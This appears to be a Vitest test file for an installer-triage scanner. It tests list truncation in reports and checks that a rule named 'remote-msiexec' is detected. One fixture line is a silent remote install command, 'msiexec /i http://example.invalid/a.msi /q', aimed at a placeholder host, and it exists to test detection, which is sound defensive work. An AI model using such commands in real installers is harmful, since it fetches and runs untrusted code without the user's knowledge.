import { describe, expect, it } from 'vitest';
import { buildInstaller } from '../../samples-synthetic/builder/installer.js';
import { ListCut } from '../../src/report/list-cut.js';
import { triage } from '../../src/triage.js';

describe('ListCut', () => {
  it('leaves a list as it is that is short enough', () => {
    const lists = new ListCut();
    const items = [1, 2, 3];
    expect(lists.cut('a', items)).toBe(items);
    expect(lists.omitted).toEqual([]);
  });

  it('cuts a long one, and says of how many items', () => {
    const lists = new ListCut();
    expect(lists.cut('a', ['aaaa', 'bbbb', 'cccc'], { maxLength: 15 })).toEqual(['aaaa', 'bbbb']);
    expect(lists.cut('b', [], { total: 4 })).toEqual([]);
    expect(lists.omitted).toEqual([
      { list: 'a', listed: 2, total: 3 },
      { list: 'b', listed: 0, total: 4 },
    ]);
  });
});

describe('a report', () => {
  it('stays small where a package has one action many times, and finds what the last one does', async () => {
    const customActions = Array.from({ length: 6000 }, (_, index) => ({
      name: `Action${index}`,
      type: 34,
      source: 'INSTALLFOLDER',
      target: index < 5999 ? `cmd.exe /c echo ${index}` : 'msiexec /i http://example.invalid/a.msi /q',
      after: 'InstallFiles' as const,
    }));
    const report = await triage(buildInstaller({ name: 'Sample', customActions }), { name: 'a.msi' });
    expect(JSON.stringify(report).length).toBeLessThan(2e6);
    expect(report.omitted).toContainEqual(
      expect.objectContaining({ list: 'package.customActions', total: 6000 }),
    );
    expect(report.findings.map(({ ruleId }) => ruleId)).toContain('remote-msiexec');
    expect(report.completeness).toBe('complete');
  });
});
